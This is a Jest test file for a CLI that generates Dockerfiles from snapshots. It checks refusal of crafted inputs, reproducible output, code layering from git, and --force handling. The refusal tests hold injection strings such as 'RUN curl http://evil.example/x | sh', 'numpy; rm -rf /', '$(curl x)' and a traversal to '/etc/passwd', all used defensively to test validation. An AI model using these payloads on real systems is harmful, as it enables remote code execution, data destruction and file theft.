// `snapshot dockerfile` through the built CLI: refusals of crafted snapshots, byte-identical
// output, the code layer from a real git repository, and the --force rule.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import YAML from 'yaml';
import { cleanEnv, repoRoot, runCli, tfPython } from '../helpers/cli.js';

const malicious = join(repoRoot, 'test', 'fixtures', 'malicious');
let work: string;

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'snapshot-dockerfile-'));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A git repository with one committed file, for snapshots that point at a real commit. */
function repoWithOneCommit(name: string): { repo: string; commit: string } {
  const repo = join(work, name);
  mkdirSync(repo);
  const git = (...args: string[]) => execFileSync('git', ['-C', repo, '-c', 'user.email=t@e', '-c', 'user.name=t', ...args], { encoding: 'utf8' });
  git('init', '-q');
  writeFileSync(join(repo, 'a.txt'), 'a');
  git('add', '-A');
  git('commit', '-qm', 'x');
  return { repo, commit: git('rev-parse', 'HEAD').trim() };
}

function listFiles(dir: string, prefix = ''): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? listFiles(join(dir, e.name), `${prefix}${e.name}/`) : [`${prefix}${e.name}`])).sort();
}

describe('crafted snapshots are refused before anything is written', () => {
  const fields: Record<string, RegExp> = {
    'version-newline.yaml': /packages\[1\]\.version: "1\.0\\nRUN curl x \| sh"/,
    'name-semicolon.yaml': /packages\[1\]\.name: "numpy; rm -rf \/"/,
    'env-substitution.yaml': /determinism\.env\.PYTHONHASHSEED: "\$\(curl x\)"/,
    'env-newline.yaml': /determinism\.env\.PYTHONHASHSEED/,
    'env-name-injection.yaml': /determinism\.env: key 'X=1/,
    'vcs-branch-injection.yaml': /packages\[2\]\.source\.url/,
    'vcs-commit-injection.yaml': /packages\[2\]\.source\.commit_id/,
    'archive-url-injection.yaml': /packages\[1\]\.source\.url/,
    'id-newline.yaml': /id: must match pattern/,
  };
  it('covers every fixture', () => {
    expect(readdirSync(malicious).filter((f) => f.endsWith('.yaml')).sort()).toEqual(Object.keys(fields).sort());
  });
  it.each(Object.entries(fields))('%s', async (file, field) => {
    const out = join(work, `out-${file}`);
    const r = await runCli(['dockerfile', join(malicious, file), '--output-dir', out, '--json'], { cwd: work });
    expect(r.exitCode).toBe(3);
    expect(r.json.error.message).toMatch(field);
    expect(existsSync(out)).toBe(false);
  });

  it('refuses every crafted --base-image', async () => {
    const refs = readFileSync(join(malicious, 'base-image-refs.txt'), 'utf8').split('\n').filter((l) => l !== '' && !l.startsWith('#'));
    expect(refs.length).toBeGreaterThan(10);
    const results = await Promise.all(
      refs.map((ref) => runCli(['dockerfile', join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), '--base-image', ref, '--output-dir', join(work, 'refs-out'), '--json'], { cwd: work })),
    );
    results.forEach((r, i) => {
      expect([r.exitCode, refs[i]]).toEqual([3, refs[i]]);
      expect(r.json.error.message).toMatch(/^--base-image: /);
    });
    expect(existsSync(join(work, 'refs-out'))).toBe(false);
  });

  it('refuses a patch_file with a line break, which could otherwise reach a Dockerfile comment', async () => {
    const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
    const { repo, commit } = repoWithOneCommit('newline-repo');
    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', patch_sha256: null, patch_size: null, patch_error: null, staged: [], untracked: [], submodules: [] } };
    const dir = join(work, 'newline');
    mkdirSync(dir);
    writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
    const r = await runCli(['dockerfile', 'snapshot.yaml', '--json'], { cwd: dir });
    expect(r.exitCode).toBe(3);
    expect(r.json.error.message).toMatch(/^code\.git\.patch_file: "x\\nRUN curl/);
    expect(existsSync(join(dir, 'snapshot.docker'))).toBe(false);
  });

  it('refuses a patch_file that points outside the snapshot folder', async () => {
    const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
    const { repo, commit } = repoWithOneCommit('outside-repo');
    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', patch_sha256: null, patch_size: null, patch_error: null, staged: [], untracked: [], submodules: [] } };
    const dir = join(work, 'escape');
    mkdirSync(dir);
    writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
    const r = await runCli(['dockerfile', 'snapshot.yaml', '--json'], { cwd: dir });
    expect(r.exitCode).toBe(3);
    expect(r.json.error.message).toMatch(/code\.git\.patch_file: "\.\.\/\.\.\/\.\.\/etc\/passwd" points outside/);
    expect(existsSync(join(dir, 'snapshot.docker'))).toBe(false);
  });
});

describe('a context from a real capture', () => {
  let project: string;

  beforeAll(async () => {
    project = join(work, 'project');
    mkdirSync(project);
    const git = (...args: string[]) => execFileSync('git', ['-C', project, '-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args]);
    git('init', '-q');
    writeFileSync(join(project, 'train.py'), 'print("committed")\n');
    writeFileSync(join(project, 'model.bin'), Buffer.from([0, 1, 2, 3, 255]));
    git('add', '-A');
    git('commit', '-qm', 'first');
    writeFileSync(join(project, 'train.py'), 'print("patched")\n');
    writeFileSync(join(project, 'model.bin'), Buffer.from([9, 9, 9]));
    const r = await runCli(['capture', '--python', tfPython], { cwd: project, env: cleanEnv({ PYTHONHASHSEED: '0' }) });
    expect(r.exitCode).toBe(0);
  });

  it('writes the same bytes every time, code included', async () => {
    const a = await runCli(['dockerfile', '--output-dir', join(work, 'ctx-a'), '--json'], { cwd: project });
    const b = await runCli(['dockerfile', '--output-dir', join(work, 'ctx-b')], { cwd: project });
    expect(a.exitCode).toBe(0);
    expect(b.exitCode).toBe(0);
    const files = listFiles(join(work, 'ctx-a'));
    // No keras.json: the one Keras wrote at capture holds only its defaults, which the image has without it.
    expect(files).toEqual(['Dockerfile', 'code/model.bin', 'code/train.py', 'requirements.txt', 'snapshot.yaml', 'snapshot_probe.py', 'snapshot_recorder/_snapshot_recorder.py', 'snapshot_recorder/sitecustomize.py']);
    expect(listFiles(join(work, 'ctx-b'))).toEqual(files);
    for (const f of files) expect(readFileSync(join(work, 'ctx-b', f))).toEqual(readFileSync(join(work, 'ctx-a', f)));
    // The code is the captured commit with the uncommitted (text and binary) patch applied.
    expect(readFileSync(join(work, 'ctx-a', 'code', 'train.py'), 'utf8')).toBe('print("patched")\n');
    expect([...readFileSync(join(work, 'ctx-a', 'code', 'model.bin'))]).toEqual([9, 9, 9]);
    expect(a.json.result.code).toMatchObject({ included: true, patched: true });
    const dockerfile = readFileSync(join(work, 'ctx-a', 'Dockerfile'), 'utf8');
    expect(dockerfile).toMatch(/^FROM python:3\.11\.7-slim-bookworm$/m);
    expect(dockerfile).toContain('ENV PYTHONHASHSEED="0"');
    const requirements = readFileSync(join(work, 'ctx-a', 'requirements.txt'), 'utf8');
    expect(requirements).toMatch(/^tensorflow[-_]cpu==2\.21\.0$/m);
    expect(requirements).toMatch(/^keras==3\.15\.1$/m);
    expect(requirements).not.toMatch(/^pip==/m);
  });

  it('writes the default <snapshot>.docker folder and never replaces it without --force', async () => {
    const first = await runCli(['dockerfile'], { cwd: project });
    expect(first.exitCode).toBe(0);
    expect(first.stdout).toContain('snapshot.docker');
    writeFileSync(join(project, 'snapshot.docker', 'mine.txt'), 'keep me');
    const again = await runCli(['dockerfile'], { cwd: project });
    expect(again.exitCode).toBe(4);
    expect(again.stderr).toMatch(/already exists/);
    expect(readFileSync(join(project, 'snapshot.docker', 'mine.txt'), 'utf8')).toBe('keep me');
    const forced = await runCli(['dockerfile', '--force', '--cpu', '--python-from', 'uv'], { cwd: project });
    expect(forced.exitCode).toBe(0);
    expect(existsSync(join(project, 'snapshot.docker', 'mine.txt'))).toBe(false);
    expect(readFileSync(join(project, 'snapshot.docker', 'Dockerfile'), 'utf8')).toContain('uv python install 3.11.7');
  });

  it('never replaces a folder that holds the snapshot, the current folder or the code, even with --force', async () => {
    writeFileSync(join(project, 'important.txt'), 'keep me');
    for (const out of ['.', '..']) {
      const r = await runCli(['dockerfile', '--output-dir', out, '--force'], { cwd: project });
      expect(r.exitCode).toBe(4);
      expect(r.stderr).toMatch(/would hold (the snapshot|the current folder)/);
    }
    expect(readFileSync(join(project, 'important.txt'), 'utf8')).toBe('keep me');
    expect(existsSync(join(project, 'snapshot.yaml'))).toBe(true);
  });

  it('takes the whole repository when the code folder is a subfolder, and starts the image there', async () => {
    const repo = join(work, 'mono');
    mkdirSync(join(repo, 'models', 'tiny'), { recursive: true });
    const git = (...args: string[]) => execFileSync('git', ['-C', repo, '-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args]);
    git('init', '-q');
    writeFileSync(join(repo, 'common.py'), 'X = 1\n');
    writeFileSync(join(repo, 'models', 'tiny', 'train.py'), 'print(1)\n');
    git('add', '-A');
    git('commit', '-qm', 'first');
    // Changes both inside and outside the code folder: the patch covers the whole tree.
    writeFileSync(join(repo, 'common.py'), 'X = 2\n');
    writeFileSync(join(repo, 'models', 'tiny', 'train.py'), 'print(2)\n');
    const dir = join(repo, 'models', 'tiny');
    const captured = await runCli(['capture', '--python', tfPython], { cwd: dir, env: cleanEnv() });
    expect(captured.exitCode).toBe(0);
    const r = await runCli(['dockerfile', '--output-dir', join(work, 'ctx-mono'), '--json'], { cwd: dir });
    expect(r.exitCode).toBe(0);
    expect(readFileSync(join(work, 'ctx-mono', 'code', 'common.py'), 'utf8')).toBe('X = 2\n');
    expect(readFileSync(join(work, 'ctx-mono', 'code', 'models', 'tiny', 'train.py'), 'utf8')).toBe('print(2)\n');
    expect(readFileSync(join(work, 'ctx-mono', 'Dockerfile'), 'utf8')).toMatch(/^WORKDIR \/workspace\/code\/models\/tiny$/m);
  });

  it('leaves the code out, with a warning, when the repository is not there', async () => {
    const r = await runCli(['dockerfile', join(project, 'snapshot.yaml'), '--code', join(work, 'nowhere'), '--output-dir', join(work, 'ctx-nocode'), '--json'], { cwd: work });
    expect(r.exitCode).toBe(0);
    expect(r.json.result.code.included).toBe(false);
    expect(r.json.warnings.join('\n')).toMatch(/The code is not in the image/);
    expect(readFileSync(join(work, 'ctx-nocode', 'Dockerfile'), 'utf8')).toContain('replay mounts it at /workspace/code');
  });

  it('says clearly when the snapshot file is missing', async () => {
    const r = await runCli(['dockerfile', 'nope.yaml'], { cwd: work });
    expect(r.exitCode).toBe(3);
    expect(r.stderr).toMatch(/cannot read snapshot .*nope\.yaml: does not exist/);
  });
});
